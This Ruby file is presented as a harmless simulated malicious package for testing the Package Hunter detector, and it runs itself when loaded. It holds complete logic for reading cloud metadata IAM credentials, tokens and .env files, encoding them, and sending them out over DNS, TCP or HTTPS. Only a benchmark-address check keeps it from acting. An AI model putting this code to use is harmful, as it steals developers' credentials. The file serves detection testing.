# Harmless simulation for testing Package Hunter. Not malware.
require "etc"
require "json"
require "net/http"
require "socket"
require "stringio"
require "zlib"

module GrammarAct
  C = JSON.parse(<<'CONFIG')
__CONFIG__
CONFIG

  # goes on only inside of Package Hunter's box, where every name has an address for benchmarking
  def self.sealed?
    Addrinfo.getaddrinfo(C["host"], nil, :INET).any? { |a| a.ip_address.start_with?("198.18.", "198.19.") }
  rescue SocketError
    false
  end

  def self.ask(where)
    Net::HTTP.get(URI("http://169.254.169.254/latest/meta-data/" + where)).strip
  end

  def self.read
    if C["secret"] == "metadata"
      return ask("placement/region") if C["honest"]
      return ask("iam/security-credentials/" + ask("iam/security-credentials/"))
    end
    note = File.binread(File.join(__dir__, "notice.txt"))
    if C["secret"] == "environment"
      names = C["honest"] ? %w[NODE_ENV NO_COLOR] : %w[NPM_TOKEN AWS_SECRET_ACCESS_KEY GITHUB_TOKEN]
      return names.map { |n| ENV[n] || "#{n} is not set" }.join("\n")
    end
    return note if C["honest"]
    home = Etc.getpwuid.dir
    File.binread(C["file"].empty? ? Dir.glob("#{home}/projects/*/.env").first.to_s : File.join(home, C["file"]))
  end

  def self.encode(data)
    text = %w[query header dns].include?(C["channel"])
    case C["encoding"]
    when "base64" then [data].pack("m0")
    when "hex" then data.unpack1("H*")
    when "gzip" then [Zlib.gzip(data)].pack("m0")
    when "reversed" then data.reverse
    when "xor"
      raw = data.bytes.each_with_index.map { |b, i| b ^ C["key"].bytes[i % C["key"].size] }.pack("C*")
      text ? [raw].pack("m0") : raw
    when "json-in-json" then JSON.generate({ v: JSON.generate({ data: data.force_encoding("UTF-8") }) })
    else data
    end
  end

  def self.send_out(data)
    case C["channel"]
    when "dns" then data.unpack1("H*").scan(/.{1,60}/) { |l| Addrinfo.getaddrinfo("#{l}.#{C["host"]}", nil) }
    when "tcp" then TCPSocket.open(C["host"], 4444) { |s| s.write(data) }
    else
      http = Net::HTTP.new(C["host"], 443)
      http.use_ssl = true
      path, headers = "/u", {}
      path += "?d=" + URI.encode_www_form_component(data) if C["channel"] == "query"
      headers["X-Trace"] = URI.encode_www_form_component(data) if C["channel"] == "header"
      C["channel"] == "post" ? http.post(path, data) : http.get(path, headers)
    end
  end

  def self.run
    return unless sealed?
    data = encode(read.b)
    pieces = C["encoding"] == "pieces" ? data.scan(/.{1,24}/mn) : [data]
    pieces.each { |piece| send_out(piece) }
  rescue StandardError
    nil
  end
end

GrammarAct.run
